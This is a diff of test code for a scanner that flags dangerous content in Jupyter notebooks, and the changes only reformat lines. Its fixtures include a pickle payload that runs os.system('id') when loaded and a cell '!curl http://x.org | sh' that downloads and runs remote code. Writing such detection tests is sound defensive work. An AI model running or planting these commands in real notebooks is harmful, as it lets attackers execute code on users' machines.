@@ -62,8 +62,12 @@ describe('scanNotebook', () => {
 
   it('a pickle literal in a cell goes under the cell', () => {
     const evil = pickle().proto(2).global('os', 'system').binunicode('id').tuple1().reduce().stop().bytes();
-    const { findings } = scanNotebookDoc(notebook([codeCell('x = 1\n'), codeCell(`import pickle\nobj = pickle.loads(bytes.fromhex('${evil.toString('hex')}'))\n`)]));
-    expect(summary(findings)).toContain(`pickle/dangerous-callable critical notebook.ipynb!/cells/1!/<embedded@${'import pickle\nobj = pickle.loads('.length}>`);
+    const { findings } = scanNotebookDoc(
+      notebook([codeCell('x = 1\n'), codeCell(`import pickle\nobj = pickle.loads(bytes.fromhex('${evil.toString('hex')}'))\n`)]),
+    );
+    expect(summary(findings)).toContain(
+      `pickle/dangerous-callable critical notebook.ipynb!/cells/1!/<embedded@${'import pickle\nobj = pickle.loads('.length}>`,
+    );
   });
 
   it.each([
@@ -76,7 +80,13 @@ describe('scanNotebook', () => {
   });
 
   it('a broken cell does not hide the others', () => {
-    const doc = { nbformat: 4, cells: [{ cell_type: 'code', source: 3 }, { cell_type: 'code', source: '!curl http://x.org | sh' }] };
+    const doc = {
+      nbformat: 4,
+      cells: [
+        { cell_type: 'code', source: 3 },
+        { cell_type: 'code', source: '!curl http://x.org | sh' },
+      ],
+    };
     const { findings } = scanNotebookDoc(doc);
     expect(summary(findings)).toEqual(['container/malformed low notebook.ipynb', 'python/download-to-shell critical notebook.ipynb!/cells/1']);
   });
